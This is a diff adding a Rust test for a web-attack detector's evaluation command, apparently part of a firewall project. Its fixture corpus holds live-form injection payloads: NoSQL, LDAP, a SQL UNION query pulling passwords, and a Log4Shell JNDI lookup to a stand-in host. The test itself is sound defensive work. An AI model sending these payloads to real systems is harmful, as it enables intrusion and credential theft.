@@ -150,3 +150,49 @@ fn vuln_import_loads_nvd_pages_offline_and_match_runs() {
     assert!(o.status.success(), "{}", text(&o));
     assert!(text(&o).contains("0 assets"), "{}", text(&o));
 }
+
+#[test]
+fn eval_reports_per_category_and_per_part() {
+    let dir = tempfile::tempdir().expect("tempdir");
+    let corpus = dir.path().join("corpus.jsonl");
+    let lines = [
+        r#"{"method":"GET","uri":"/login?user=admin&password[$ne]=x","headers":[["Host","h"]],"label":"attack","category":"nosqli","part":"query"}"#,
+        r#"{"method":"GET","uri":"/people?name=*)(uid%3D*))(%7C(uid%3D*","headers":[["Host","h"]],"label":"attack","category":"ldapi","part":"query"}"#,
+        r#"{"method":"GET","uri":"/users/1%27%20UNION%20SELECT%20password%20FROM%20users--","headers":[["Host","h"]],"label":"attack","category":"sqli","part":"path"}"#,
+        r#"{"method":"GET","uri":"/","headers":[["Host","h"],["X-Api-Version","${jndi:ldap://e.example/a}"]],"label":"attack","category":"jndi","part":"header"}"#,
+        r#"{"method":"GET","uri":"/search?q=hello","headers":[["Host","h"]],"label":"attack","category":"sqli","part":"query"}"#,
+        r#"{"method":"GET","uri":"/products?page=2","headers":[["Host","h"]],"label":"normal","category":"benign","part":"query"}"#,
+    ];
+    std::fs::write(&corpus, lines.join("\n")).expect("write");
+    let json = dir.path().join("report.json");
+    let o = palisade(
+        dir.path(),
+        &[
+            "eval",
+            corpus.to_str().expect("utf-8"),
+            "--paranoia",
+            "1",
+            "--json",
+            json.to_str().expect("utf-8"),
+        ],
+    );
+    let out = text(&o);
+    assert!(o.status.success(), "{out}");
+    assert!(out.contains("by category:"), "{out}");
+    assert!(out.contains("by part:"), "{out}");
+    let report: serde_json::Value =
+        serde_json::from_slice(&std::fs::read(&json).expect("report")).expect("json");
+    let level = &report[0];
+    // The benign-looking "attack" is the one miss: sqli 1 of 2, query 2 of 3.
+    assert_eq!(level["by_category"]["sqli"]["tp"], 1, "{level}");
+    assert_eq!(level["by_category"]["sqli"]["fn"], 1, "{level}");
+    assert_eq!(level["by_category"]["nosqli"]["tp"], 1, "{level}");
+    assert_eq!(level["by_category"]["ldapi"]["tp"], 1, "{level}");
+    assert_eq!(level["by_category"]["benign"]["tn"], 1, "{level}");
+    assert_eq!(level["by_part"]["query"]["tp"], 2, "{level}");
+    assert_eq!(level["by_part"]["query"]["fn"], 1, "{level}");
+    assert_eq!(level["by_part"]["path"]["tp"], 1, "{level}");
+    assert_eq!(level["by_part"]["header"]["tp"], 1, "{level}");
+    assert_eq!(level["detected_in"]["path_segment"], 1, "{level}");
+    assert_eq!(level["detected_in"]["other_header"], 1, "{level}");
+}
